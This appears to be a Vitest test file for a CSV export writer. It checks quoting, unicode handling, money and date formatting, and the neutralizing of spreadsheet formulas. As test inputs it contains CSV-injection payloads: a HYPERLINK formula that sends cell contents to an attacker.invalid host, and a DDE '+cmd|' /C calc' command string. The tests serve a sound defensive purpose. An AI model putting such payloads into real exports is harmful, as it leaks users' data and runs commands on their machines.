import { PassThrough } from 'node:stream'
import { describe, expect, it } from 'vitest'
import { writeCsv } from '../../../../src/main/export/csv-writer'
import type { ExportColumn } from '../../../../src/main/export/export-columns'

interface Line {
  name: string | null
  cents: number | null
  day: string | null
}

const columns: ExportColumn<Line>[] = [
  { header: 'Name', kind: 'text', value: (line) => line.name },
  { header: 'Amount', kind: 'cents', value: (line) => line.cents },
  { header: 'Day', kind: 'date', value: (line) => line.day },
]

async function csvOf(rows: Line[], batchSize = 2): Promise<string> {
  const target = new PassThrough()
  const chunks: Buffer[] = []
  target.on('data', (chunk: Buffer) => chunks.push(chunk))
  const batches: Line[][] = []
  for (let i = 0; i < rows.length; i += batchSize) batches.push(rows.slice(i, i + batchSize))

  await writeCsv({ name: 'Test', columns, batches }, target)
  return Buffer.concat(chunks).toString('utf8')
}

function line(name: string | null, cents: number | null = null, day: string | null = null): Line {
  return { name, cents, day }
}

describe('writeCsv', () => {
  it('starts with a byte-order mark and a header, and ends every record with CRLF', async () => {
    const text = await csvOf([line('Ana')])

    expect(text).toBe('\uFEFFName,Amount,Day\r\nAna,,\r\n')
  })

  it('quotes fields with commas, quotes and line breaks and doubles embedded quotes', async () => {
    const text = await csvOf([line('Rivera, Ana'), line('O\'Brien "Bob"'), line('two\nlines')])

    expect(text.split('\r\n').slice(1, 4)).toEqual([
      '"Rivera, Ana",,',
      '"O\'Brien ""Bob""",,',
      '"two\nlines",,',
    ])
  })

  it('quotes fields with the separators other locales use, so no later part becomes a cell', async () => {
    const text = await csvOf([line('Smith;=HYPERLINK("https://x.invalid/?"&A1)'), line('a\t@b')])

    expect(text.split('\r\n').slice(1, 3)).toEqual([
      '"Smith;=HYPERLINK(""https://x.invalid/?""&A1)",,',
      '"a\t@b",,',
    ])
  })

  it('keeps unicode, right-to-left marks and emoji byte for byte', async () => {
    const names = ['محمد', '\u202Eevil\u202C', 'Override\u200E', '👩🏽‍💻', 'Ñúñez', '王']

    const text = await csvOf(names.map((name) => line(name)))

    expect(text.split('\r\n').slice(1, -1)).toEqual(names.map((name) => `${name},,`))
  })

  it('neutralizes formula text before quoting it', async () => {
    const text = await csvOf([
      line('=HYPERLINK("https://attacker.invalid/?leak="&A1,"Click")'),
      line("+cmd|' /C calc'!A0"),
      line('-2+3'),
      line('@SUM(1+1)'),
      line('\t=1+1'),
      line('\r=2+2'),
    ])

    expect(text.split('\r\n').slice(1, 6)).toEqual([
      '"\'=HYPERLINK(""https://attacker.invalid/?leak=""&A1,""Click"")",,',
      "'+cmd|' /C calc'!A0,,",
      "'-2+3,,",
      "'@SUM(1+1),,",
      '"\'\t=1+1",,',
    ])
    expect(text).toContain('"\'\r=2+2",,')
  })

  it('writes money as a plain decimal computed from cents, negative amounts unquoted', async () => {
    const text = await csvOf([
      line('a', 123456789),
      line('b', -5),
      line('c', 0),
      line('d', Number.MAX_SAFE_INTEGER),
    ])

    expect(text.split('\r\n').slice(1, 5)).toEqual([
      'a,1234567.89,',
      'b,-0.05,',
      'c,0.00,',
      'd,90071992547409.91,',
    ])
  })

  it('writes calendar days in ISO form', async () => {
    const text = await csvOf([
      line('a', null, '2026-11-30'),
      line('b', null, '2026-11-30T10:00:00Z'),
    ])

    expect(text.split('\r\n').slice(1, 3)).toEqual(['a,,2026-11-30', 'b,,2026-11-30'])
  })
})
